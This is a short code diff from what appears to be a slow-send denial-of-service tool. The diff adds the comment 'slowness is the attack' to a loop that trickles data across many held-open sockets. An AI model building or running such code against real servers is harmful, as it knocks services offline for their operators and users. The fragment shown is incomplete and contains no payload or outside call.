@@ -38,7 +38,7 @@ class Crowd:
         return one
 
     def dribble(self, port):
-        while not self.over.wait(0.2):
+        while not self.over.wait(0.2):  # slowness is the attack
             for i, one in enumerate(self.sockets):
                 try:
                     one.send(self.more)
